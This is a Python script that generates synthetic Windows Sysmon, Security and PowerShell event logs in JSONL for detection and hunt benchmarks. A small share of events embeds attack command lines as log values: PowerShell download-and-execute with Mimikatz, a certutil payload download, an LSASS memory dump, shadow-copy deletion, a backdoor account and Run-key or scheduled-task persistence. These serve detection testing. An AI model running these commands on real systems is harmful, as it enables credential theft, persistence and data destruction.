#!/usr/bin/env python3
"""Generate a large JSONL file of flat Windows events for read and hunt benchmarks.

Each line is one event with the field names sigil_events gives EVTX records (System fields
such as Provider_Name, EventID, TimeCreated, Channel, Computer, Security_UserID, then the
EventData fields), in EVTX field order. The mix is Sysmon-heavy, like a workstation log:

  Sysmon (Microsoft-Windows-Sysmon/Operational): EventID 1, 3, 5, 7, 10, 11, 12, 13, 22
  Security: 4624, 4625, 4688, 4672, 4663
  PowerShell (Microsoft-Windows-PowerShell/Operational): 4104

A small share of events (--suspicious, default 0.2%) carries values that common SigmaHQ rules
look for: encoded PowerShell, a MeshAgent parent, LSASS access and dumps, shadow copy
deletion, certutil downloads, Run keys, tunnelling domains, Mimikatz script blocks.

Speed: every event type has a pool of pre-rendered variants (--variants per type); writing an
event only picks a variant and fills in its time and record id, so the script writes several
hundred thousand events per second. Output is deterministic for a given --seed.

Usage: bench/gen_jsonl.py [--events N] [--seed S] [--out FILE|-] [--start ISO] [--rate EPS]
"""

import argparse
import bisect
import calendar
import json
import random
import sys
import time

SYSMON = ("Microsoft-Windows-Sysmon", "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}", "Microsoft-Windows-Sysmon/Operational")
SECURITY = ("Microsoft-Windows-Security-Auditing", "{54849625-5478-4994-a5ba-3e3b0328c30d}", "Security")
POWERSHELL = (
    "Microsoft-Windows-PowerShell",
    "{a0c1853b-5c40-4b15-8766-3cf1c58f985a}",
    "Microsoft-Windows-PowerShell/Operational",
)

DOMAIN = "CORP"
USERS = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "mallory", "svc_backup"]
SYSTEM_USERS = ["NT AUTHORITY\\SYSTEM", "NT AUTHORITY\\LOCAL SERVICE", "NT AUTHORITY\\NETWORK SERVICE"]

# (image, command line template, original file name, description, company, product, file version)
PROGRAMS = [
    ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k {svc} -p", "svchost.exe", "Host Process for Windows Services"),
    ("C:\\Windows\\System32\\cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\" /c {cmd}", "Cmd.Exe", "Windows Command Processor"),
    ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\{script}.ps1", "PowerShell.EXE", "Windows PowerShell"),
    ("C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", "CONHOST.EXE", "Console Window Host"),
    ("C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe {{222A245B-E637-4AE9-A93F-A59CA119A75E}}", "taskhostw.exe", "Host Process for Windows Tasks"),
    ("C:\\Windows\\System32\\RuntimeBroker.exe", "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding", "RuntimeBroker.exe", "Runtime Broker"),
    ("C:\\Windows\\System32\\backgroundTaskHost.exe", "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca", "backgroundTaskHost.exe", "Background Task Host"),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US --renderer-client-id={n}", "chrome.exe", "Google Chrome"),
    ("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --type=utility --utility-sub-type=network.mojom.NetworkService", "msedge.exe", "Microsoft Edge"),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" ", "Outlook.exe", "Microsoft Outlook"),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\{user}\\Documents\\report-{n}.docx\"", "WinWord.exe", "Microsoft Word"),
    ("C:\\Windows\\System32\\notepad.exe", "\"C:\\Windows\\system32\\notepad.exe\" C:\\Users\\{user}\\Desktop\\notes-{n}.txt", "NOTEPAD.EXE", "Notepad"),
    ("C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "Wmiprvse.exe", "WMI Provider Host"),
    ("C:\\Windows\\System32\\SearchProtocolHost.exe", "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe{n}", "SearchProtocolHost.exe", "Microsoft Windows Search Protocol Host"),
    ("C:\\Windows\\System32\\git.exe", "git.exe fetch --all --prune", "git.exe", "Git"),
    ("C:\\Program Files\\Microsoft VS Code\\Code.exe", "\"C:\\Program Files\\Microsoft VS Code\\Code.exe\" --type=gpu-process", "electron.exe", "Visual Studio Code"),
    ("C:\\Windows\\System32\\whoami.exe", "whoami", "whoami.exe", "whoami - displays logged on user information"),
    ("C:\\Windows\\System32\\ipconfig.exe", "ipconfig /all", "ipconfig.exe", "IP Configuration Utility"),
    ("C:\\Windows\\System32\\sc.exe", "sc query {svc}", "sc.exe", "Service Control Manager Configuration Tool"),
    ("C:\\Windows\\System32\\msiexec.exe", "C:\\Windows\\system32\\msiexec.exe /V", "msiexec.exe", "Windows® installer"),
]
PARENTS = [
    ("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE"),
    ("C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe"),
    ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
    ("C:\\Windows\\System32\\cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\""),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\""),
    ("C:\\Windows\\System32\\userinit.exe", "C:\\Windows\\system32\\userinit.exe"),
]
SERVICES = ["netsvcs", "LocalServiceNetworkRestricted", "DcomLaunch", "RPCSS", "UnistackSvcGroup", "wusvcs"]
SHELL_COMMANDS = ["dir C:\\Users", "echo %PATH%", "type C:\\Windows\\win.ini", "ping -n 1 10.0.0.1", "set", "ver", "hostname"]
SCRIPTS = ["backup", "inventory", "cleanup", "deploy", "healthcheck"]
DLLS = [
    "C:\\Windows\\System32\\ntdll.dll", "C:\\Windows\\System32\\kernel32.dll", "C:\\Windows\\System32\\KernelBase.dll",
    "C:\\Windows\\System32\\advapi32.dll", "C:\\Windows\\System32\\user32.dll", "C:\\Windows\\System32\\combase.dll",
    "C:\\Windows\\System32\\crypt32.dll", "C:\\Windows\\System32\\ws2_32.dll", "C:\\Windows\\System32\\wininet.dll",
    "C:\\Windows\\System32\\amsi.dll", "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll",
    "C:\\Program Files\\Google\\Chrome\\Application\\130.0.6723.92\\chrome_elf.dll",
]
DOMAINS = [
    "www.google.com", "login.microsoftonline.com", "outlook.office365.com", "github.com", "api.github.com",
    "update.googleapis.com", "ctldl.windowsupdate.com", "settings-win.data.microsoft.com", "wpad.corp.example",
    "dc01.corp.example", "fileserver.corp.example", "teams.microsoft.com", "cdn.jsdelivr.net",
]
REG_KEYS = [
    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\FileExts\\.txt\\OpenWithList",
    "HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.docx",
    "HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\{sid}\\\\Device\\HarddiskVolume3\\Windows\\System32\\notepad.exe",
    "HKU\\{sid}\\Software\\Microsoft\\Office\\16.0\\Word\\Reading Locations\\Document 0\\File Path",
    "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignatureLocation",
]
FILES = [
    "C:\\Users\\{user}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\f_{n:06x}",
    "C:\\Users\\{user}\\AppData\\Local\\Temp\\~DF{n:04X}.tmp",
    "C:\\Users\\{user}\\Documents\\report-{n}.docx",
    "C:\\Windows\\Prefetch\\SVCHOST.EXE-{n:08X}.pf",
    "C:\\Windows\\SoftwareDistribution\\Download\\{n:032x}",
    "C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\History\\Service\\DetectionHistory\\{n}",
]


class Gen:
    def __init__(self, rnd):
        self.r = rnd
        self.hosts = [f"WS{i:02d}.corp.example" for i in range(1, 41)] + ["DC01.corp.example", "FS01.corp.example"]
        self.sids = {u: f"S-1-5-21-3623811015-3361044348-30300820-{1100 + i}" for i, u in enumerate(USERS)}

    def pick(self, seq):
        return seq[int(self.r.random() * len(seq))]

    def guid(self):
        r = self.r
        return "{%08x-%04x-%04x-%04x-%012x}" % (
            r.getrandbits(32), r.getrandbits(16), r.getrandbits(16), r.getrandbits(16), r.getrandbits(48))

    def user(self):
        if self.r.random() < 0.35:
            return self.pick(SYSTEM_USERS)
        return f"{DOMAIN}\\{self.pick(USERS)}"

    def hashes(self):
        r = self.r
        return "SHA1=%040X,MD5=%032X,SHA256=%064X,IMPHASH=%032X" % (
            r.getrandbits(160), r.getrandbits(128), r.getrandbits(256), r.getrandbits(128))

    def fill(self, template):
        return template.format(svc=self.pick(SERVICES), cmd=self.pick(SHELL_COMMANDS), script=self.pick(SCRIPTS),
                               n=self.r.randrange(1, 99999), user=self.pick(USERS), sid=self.sids[self.pick(USERS)])

    def pid(self):
        return 4 * int(1 + self.r.random() * 9999)

    def logon_id(self):
        return "0x%x" % self.r.randrange(0x3E7, 0x2000000)

    def ip(self):
        return f"10.{self.r.randrange(0, 4)}.{self.r.randrange(0, 255)}.{self.r.randrange(1, 254)}"

    def program(self):
        image, cmd, original, description = self.pick(PROGRAMS)
        return image, self.fill(cmd), original, description

    # Each event builder returns the EventData fields as a list of (name, value) pairs.

    def sysmon_1(self, bad):
        image, cmd, original, description = self.program()
        parent, parent_cmd = self.pick(PARENTS)
        if bad:
            image, cmd, original, description, parent, parent_cmd = self.pick(SUSPICIOUS_PROCESSES)
        return [
            ("RuleName", "-"), ("UtcTime", None), ("ProcessGuid", self.guid()), ("ProcessId", self.pid()),
            ("Image", image), ("FileVersion", "10.0.22621.1 (WinBuild.160101.0800)"), ("Description", description),
            ("Product", "Microsoft® Windows® Operating System"), ("Company", "Microsoft Corporation"),
            ("OriginalFileName", original), ("CommandLine", cmd), ("CurrentDirectory", "C:\\Windows\\system32\\"),
            ("User", self.user()), ("LogonGuid", self.guid()), ("LogonId", self.logon_id()),
            ("TerminalSessionId", self.r.randrange(0, 3)), ("IntegrityLevel", self.pick(["Medium", "High", "System"])),
            ("Hashes", self.hashes()), ("ParentProcessGuid", self.guid()), ("ParentProcessId", self.pid()),
            ("ParentImage", parent), ("ParentCommandLine", parent_cmd), ("ParentUser", self.user()),
        ]

    def sysmon_3(self, bad):
        image = self.program()[0]
        host = "tunnel-%04x.ngrok.io" % self.r.getrandbits(16) if bad else self.pick(DOMAINS)
        port = self.pick([4444, 8443]) if bad else self.pick([443, 443, 443, 80, 53, 445, 389, 88, 135])
        return [
            ("RuleName", "-"), ("UtcTime", None), ("ProcessGuid", self.guid()), ("ProcessId", self.pid()),
            ("Image", image), ("User", self.user()), ("Protocol", "tcp"), ("Initiated", True),
            ("SourceIsIpv6", False), ("SourceIp", self.ip()), ("SourceHostname", "-"),
            ("SourcePort", self.r.randrange(49152, 65535)), ("SourcePortName", "-"), ("DestinationIsIpv6", False),
            ("DestinationIp", "%d.%d.%d.%d" % (self.r.randrange(1, 223), self.r.randrange(256), self.r.randrange(256), self.r.randrange(1, 254))),
            ("DestinationHostname", host), ("DestinationPort", port),
            ("DestinationPortName", {443: "https", 80: "http", 53: "domain", 445: "microsoft-ds"}.get(port, "-")),
        ]

    def sysmon_5(self, bad):
        return [("RuleName", "-"), ("UtcTime", None), ("ProcessGuid", self.guid()), ("ProcessId", self.pid()),
                ("Image", self.program()[0]), ("User", self.user())]

    def sysmon_7(self, bad):
        image = self.program()[0]
        loaded = "C:\\Users\\Public\\dbghelp.dll" if bad else self.pick(DLLS)
        return [
            ("RuleName", "-"), ("UtcTime", None), ("ProcessGuid", self.guid()), ("ProcessId", self.pid()),
            ("Image", image), ("ImageLoaded", loaded), ("FileVersion", "10.0.22621.2506 (WinBuild.160101.0800)"),
            ("Description", "Windows NT BASE API Client DLL"), ("Product", "Microsoft® Windows® Operating System"),
            ("Company", "Microsoft Corporation"), ("OriginalFileName", loaded.rsplit("\\", 1)[-1]),
            ("Hashes", self.hashes()), ("Signed", "false" if bad else "true"),
            ("Signature", "-" if bad else "Microsoft Windows"), ("SignatureStatus", "Unavailable" if bad else "Valid"),
            ("User", self.user()),
        ]

    def sysmon_10(self, bad):
        source = "C:\\Users\\Public\\procdump64.exe" if bad else self.program()[0]
        target = "C:\\Windows\\system32\\lsass.exe" if bad else self.program()[0]
        return [
            ("RuleName", "-"), ("UtcTime", None), ("SourceProcessGUID", self.guid()), ("SourceProcessId", self.pid()),
            ("SourceThreadId", self.pid()), ("SourceImage", source), ("TargetProcessGUID", self.guid()),
            ("TargetProcessId", self.pid()), ("TargetImage", target),
            ("GrantedAccess", "0x1fffff" if bad else self.pick(["0x1000", "0x1400", "0x101000", "0x3000"])),
            ("CallTrace", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(00007FF8A1B2C3D4)"),
            ("SourceUser", self.user()), ("TargetUser", self.user()),
        ]

    def sysmon_11(self, bad):
        image = self.program()[0]
        target = "C:\\Users\\%s\\AppData\\Local\\Temp\\update-%d.ps1" % (self.pick(USERS), self.r.randrange(999)) if bad \
            else self.fill(self.pick(FILES))
        return [("RuleName", "-"), ("UtcTime", None), ("ProcessGuid", self.guid()), ("ProcessId", self.pid()),
                ("Image", image), ("TargetFilename", target), ("CreationUtcTime", None), ("User", self.user())]

    def sysmon_12(self, bad):
        return [("RuleName", "-"), ("EventType", self.pick(["CreateKey", "DeleteKey"])), ("UtcTime", None),
                ("ProcessGuid", self.guid()), ("ProcessId", self.pid()), ("Image", self.program()[0]),
                ("TargetObject", self.fill(self.pick(REG_KEYS))), ("User", self.user())]

    def sysmon_13(self, bad):
        if bad:
            target = "HKU\\%s\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater" % self.sids[self.pick(USERS)]
            details = "powershell.exe -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="
        else:
            target = self.fill(self.pick(REG_KEYS))
            details = self.pick(["DWORD (0x00000001)", "DWORD (0x00000000)", "Binary Data", "QWORD (0x00000000-0x5f5e100)"])
        return [("RuleName", "-"), ("EventType", "SetValue"), ("UtcTime", None), ("ProcessGuid", self.guid()),
                ("ProcessId", self.pid()), ("Image", self.program()[0]), ("TargetObject", target),
                ("Details", details), ("User", self.user())]

    def sysmon_22(self, bad):
        name = "c2-%04x.duckdns.org" % self.r.getrandbits(16) if bad else self.pick(DOMAINS)
        return [("RuleName", "-"), ("UtcTime", None), ("ProcessGuid", self.guid()), ("ProcessId", self.pid()),
                ("QueryName", name), ("QueryStatus", "0"),
                ("QueryResults", "::ffff:%s;" % self.ip()), ("Image", self.program()[0]), ("User", self.user())]

    def subject(self):
        user = self.pick(USERS)
        return [("SubjectUserSid", self.sids[user]), ("SubjectUserName", user), ("SubjectDomainName", DOMAIN),
                ("SubjectLogonId", self.logon_id())]

    def security_4624(self, bad):
        user = self.pick(USERS)
        return [
            ("SubjectUserSid", "S-1-5-18"), ("SubjectUserName", "WS01$"), ("SubjectDomainName", DOMAIN),
            ("SubjectLogonId", "0x3e7"), ("TargetUserSid", self.sids[user]), ("TargetUserName", user),
            ("TargetDomainName", DOMAIN), ("TargetLogonId", self.logon_id()),
            ("LogonType", 10 if bad else self.pick([2, 3, 3, 3, 5, 7, 11])), ("LogonProcessName", "User32 "),
            ("AuthenticationPackageName", "Negotiate"), ("WorkstationName", "WS01"), ("LogonGuid", self.guid()),
            ("TransmittedServices", "-"), ("LmPackageName", "-"), ("KeyLength", 0), ("ProcessId", "0x%x" % self.pid()),
            ("ProcessName", "C:\\Windows\\System32\\svchost.exe"), ("IpAddress", self.ip()),
            ("IpPort", str(self.r.randrange(49152, 65535))), ("ImpersonationLevel", "%%1833"),
            ("RestrictedAdminMode", "-"), ("TargetOutboundUserName", "-"), ("TargetOutboundDomainName", "-"),
            ("VirtualAccount", "%%1843"), ("TargetLinkedLogonId", "0x0"), ("ElevatedToken", "%%1842"),
        ]

    def security_4625(self, bad):
        user = "administrator" if bad else self.pick(USERS)
        return [
            ("SubjectUserSid", "S-1-0-0"), ("SubjectUserName", "-"), ("SubjectDomainName", "-"),
            ("SubjectLogonId", "0x0"), ("TargetUserSid", "S-1-0-0"), ("TargetUserName", user),
            ("TargetDomainName", DOMAIN), ("Status", "0xc000006d"), ("FailureReason", "%%2313"),
            ("SubStatus", "0xc000006a"), ("LogonType", 3), ("LogonProcessName", "NtLmSsp "),
            ("AuthenticationPackageName", "NTLM"), ("WorkstationName", "-"), ("TransmittedServices", "-"),
            ("LmPackageName", "-"), ("KeyLength", 0), ("ProcessId", "0x0"), ("ProcessName", "-"),
            ("IpAddress", self.ip()), ("IpPort", "0"),
        ]

    def security_4688(self, bad):
        image, cmd, _original, _description = self.program()
        parent = self.pick(PARENTS)[0]
        if bad:
            image, cmd, _o, _d, parent, _pc = self.pick(SUSPICIOUS_PROCESSES)
        return self.subject() + [
            ("NewProcessId", "0x%x" % self.pid()), ("NewProcessName", image), ("TokenElevationType", "%%1936"),
            ("ProcessId", "0x%x" % self.pid()), ("CommandLine", cmd), ("TargetUserSid", "S-1-0-0"),
            ("TargetUserName", "-"), ("TargetDomainName", "-"), ("TargetLogonId", "0x0"),
            ("ParentProcessName", parent), ("MandatoryLabel", self.pick(["S-1-16-8192", "S-1-16-12288", "S-1-16-16384"])),
        ]

    def security_4672(self, bad):
        return self.subject() + [("PrivilegeList", "SeSecurityPrivilege\n\t\t\tSeBackupPrivilege\n\t\t\tSeRestorePrivilege\n\t\t\tSeTakeOwnershipPrivilege\n\t\t\tSeDebugPrivilege\n\t\t\tSeImpersonatePrivilege")]

    def security_4663(self, bad):
        name = "C:\\Windows\\NTDS\\ntds.dit" if bad else self.fill(self.pick(FILES))
        return self.subject() + [
            ("ObjectServer", "Security"), ("ObjectType", "File"), ("ObjectName", name),
            ("HandleId", "0x%x" % self.r.randrange(0x100, 0x4000)), ("AccessList", "%%4416\n\t\t\t\t"),
            ("AccessMask", "0x1"), ("ProcessId", "0x%x" % self.pid()), ("ProcessName", self.program()[0]),
            ("ResourceAttributes", "S:AI"),
        ]

    def powershell_4104(self, bad):
        if bad:
            text = "IEX (New-Object Net.WebClient).DownloadString('http://10.9.8.7/a.ps1'); Invoke-Mimikatz -DumpCreds"
        else:
            text = self.pick([
                "Get-ChildItem -Path C:\\Scripts -Filter *.log | Remove-Item -Force",
                "Import-Module ActiveDirectory; Get-ADUser -Filter * -Properties LastLogonDate | Export-Csv C:\\Reports\\users.csv",
                "$ErrorActionPreference = 'Stop'\r\nGet-Service | Where-Object {$_.Status -eq 'Running'}",
                "Set-StrictMode -Version Latest\r\nfunction Get-Inventory { Get-CimInstance Win32_OperatingSystem }",
                "prompt",
            ])
        return [("MessageNumber", 1), ("MessageTotal", 1), ("ScriptBlockText", text),
                ("ScriptBlockId", self.guid()[1:-1]), ("Path", "C:\\Scripts\\%s.ps1" % self.pick(SCRIPTS))]


SUSPICIOUS_PROCESSES = [
    ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
     "PowerShell.EXE", "Windows PowerShell", "C:\\Program Files\\Mesh Agent\\MeshAgent.exe",
     "\"C:\\Program Files\\Mesh Agent\\MeshAgent.exe\" -connect"),
    ("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c whoami /all", "Cmd.Exe", "Windows Command Processor",
     "C:\\Program Files\\Mesh Agent\\meshagent.exe", "\"C:\\Program Files\\Mesh Agent\\meshagent.exe\""),
    ("C:\\Windows\\System32\\rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Users\\Public\\l.dmp full",
     "RUNDLL32.EXE", "Windows host process (Rundll32)", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", "VSSADMIN.EXE",
     "Command Line Interface for Microsoft® Volume Shadow Copy Service", "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c"),
    ("C:\\Windows\\System32\\certutil.exe", "certutil.exe -urlcache -split -f http://10.9.8.7/p.exe C:\\Users\\Public\\p.exe",
     "CertUtil.exe", "CertUtil.exe", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\schtasks.exe", "schtasks /create /sc minute /mo 5 /tn Updater /tr \"C:\\Users\\Public\\p.exe\" /f",
     "schtasks.exe", "Task Scheduler Configuration Tool", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     "powershell.exe"),
    ("C:\\Windows\\System32\\net.exe", "net user backdoor P@ssw0rd! /add", "net.exe", "Net Command",
     "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
]

# (builder, provider, EventID, Version, Level, Task, Opcode, Keywords, weight)
EVENT_TYPES = [
    ("sysmon_1", SYSMON, 1, 5, 4, 1, 0, "0x8000000000000000", 10),
    ("sysmon_3", SYSMON, 3, 5, 4, 3, 0, "0x8000000000000000", 12),
    ("sysmon_5", SYSMON, 5, 3, 4, 5, 0, "0x8000000000000000", 6),
    ("sysmon_7", SYSMON, 7, 3, 4, 7, 0, "0x8000000000000000", 18),
    ("sysmon_10", SYSMON, 10, 3, 4, 10, 0, "0x8000000000000000", 6),
    ("sysmon_11", SYSMON, 11, 2, 4, 11, 0, "0x8000000000000000", 10),
    ("sysmon_12", SYSMON, 12, 2, 4, 12, 0, "0x8000000000000000", 6),
    ("sysmon_13", SYSMON, 13, 2, 4, 13, 0, "0x8000000000000000", 10),
    ("sysmon_22", SYSMON, 22, 5, 4, 22, 0, "0x8000000000000000", 6),
    ("security_4624", SECURITY, 4624, 2, 0, 12544, 0, "0x8020000000000000", 4),
    ("security_4625", SECURITY, 4625, 0, 0, 12544, 0, "0x8010000000000000", 1),
    ("security_4688", SECURITY, 4688, 2, 0, 13312, 0, "0x8020000000000000", 4),
    ("security_4672", SECURITY, 4672, 0, 0, 12548, 0, "0x8020000000000000", 3),
    ("security_4663", SECURITY, 4663, 1, 0, 12800, 0, "0x8020000000000000", 3),
    ("powershell_4104", POWERSHELL, 4104, 1, 5, 2, 15, "0x0", 1),
]


def render_variant(gen, spec, bad):
    """One pre-rendered event, as UTF-8 pieces around the values filled in at write time:
    `head` + TimeCreated + `mid` + EventRecordID + `tail`, where `tail` is a list whose pieces
    are joined by the UtcTime / CreationUtcTime value."""
    name, (provider, guid, channel), event_id, version, level, task, opcode, keywords, _w = spec
    host = gen.pick(gen.hosts)
    head = (
        f'{{"Provider_Name":{json.dumps(provider)},"Provider_Guid":"{guid}","EventID":{event_id},'
        f'"Version":{version},"Level":{level},"Task":{task},"Opcode":{opcode},"Keywords":"{keywords}",'
        '"TimeCreated":"'
    )
    exec_pid = {"Security": 4, "Microsoft-Windows-Sysmon/Operational": 3208}.get(channel, gen.pid())
    tail = (
        f',"Execution_ProcessID":{exec_pid},"Execution_ThreadID":{gen.pid()},"Channel":{json.dumps(channel)},'
        f'"Computer":{json.dumps(host)}'
    )
    if channel != "Security":
        tail += ',"Security_UserID":"S-1-5-18"'
    for key, value in getattr(gen, name)(bad):
        tail += f',"{key}":' + ("\x00" if value is None else json.dumps(value, ensure_ascii=False))
    tail += "}\n"
    return head.encode(), [piece.encode() for piece in tail.split("\x00")], channel


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--events", type=int, default=1_000_000, help="number of events (default 1,000,000)")
    ap.add_argument("--seed", type=int, default=1, help="random seed (default 1)")
    ap.add_argument("--out", default="-", help="output file, or - for stdout (default)")
    ap.add_argument("--start", default="2026-11-20T00:00:00Z", help="time of the first event (UTC)")
    ap.add_argument("--rate", type=float, default=50.0, help="average events per second of log time (default 50)")
    ap.add_argument("--variants", type=int, default=1500, help="pre-rendered variants per event type (default 1500)")
    ap.add_argument("--suspicious", type=float, default=0.002, help="share of suspicious events (default 0.002)")
    args = ap.parse_args()

    rnd = random.Random(args.seed)
    gen = Gen(rnd)
    started = time.perf_counter()
    normal = [[render_variant(gen, spec, False) for _ in range(args.variants)] for spec in EVENT_TYPES]
    bad = [[render_variant(gen, spec, True) for _ in range(max(8, args.variants // 50))] for spec in EVENT_TYPES]
    cumulative = []
    total = 0
    for spec in EVENT_TYPES:
        total += spec[-1]
        cumulative.append(total)

    second = calendar.timegm(time.strptime(args.start.rstrip("Z"), "%Y-%m-%dT%H:%M:%S"))
    ticks = 0  # 100 ns units within the current second
    step = int(1e7 / max(args.rate, 1e-3))
    record_ids = {}
    out = sys.stdout.buffer if args.out == "-" else open(args.out, "wb")
    buf = []
    push = buf.extend
    random_ = rnd.random
    suspicious = args.suspicious
    prefix_second = None
    prefix_iso = prefix_utc = b""
    last_type = len(EVENT_TYPES) - 1
    mid = b'Z","EventRecordID":'
    for _ in range(args.events):
        kind = min(bisect.bisect_right(cumulative, random_() * total), last_type)
        pool = bad[kind] if random_() < suspicious else normal[kind]
        head, tail, channel = pool[int(random_() * len(pool))]
        ticks += 1 + int(random_() * 2 * step)
        if ticks >= 10_000_000:
            second += ticks // 10_000_000
            ticks %= 10_000_000
        if second != prefix_second:
            prefix_second = second
            t = time.gmtime(second)
            prefix_iso = time.strftime("%Y-%m-%dT%H:%M:%S.", t).encode()
            prefix_utc = time.strftime('"%Y-%m-%d %H:%M:%S.', t).encode()
        rid = record_ids.get(channel, 0) + 1
        record_ids[channel] = rid
        if len(tail) == 1:
            push((head, prefix_iso, b"%07d" % ticks, mid, b"%d" % rid, tail[0]))
        else:
            utc = prefix_utc + b'%03d"' % (ticks // 10000)
            push((head, prefix_iso, b"%07d" % ticks, mid, b"%d" % rid, utc.join(tail)))
        if len(buf) >= 60_000:
            out.write(b"".join(buf))
            buf.clear()
    out.write(b"".join(buf))
    out.flush()
    if args.out != "-":
        out.close()
    elapsed = time.perf_counter() - started
    print(f"wrote {args.events} events in {elapsed:.1f} s ({args.events / max(elapsed, 1e-9):,.0f} events/s)",
          file=sys.stderr)


if __name__ == "__main__":
    main()
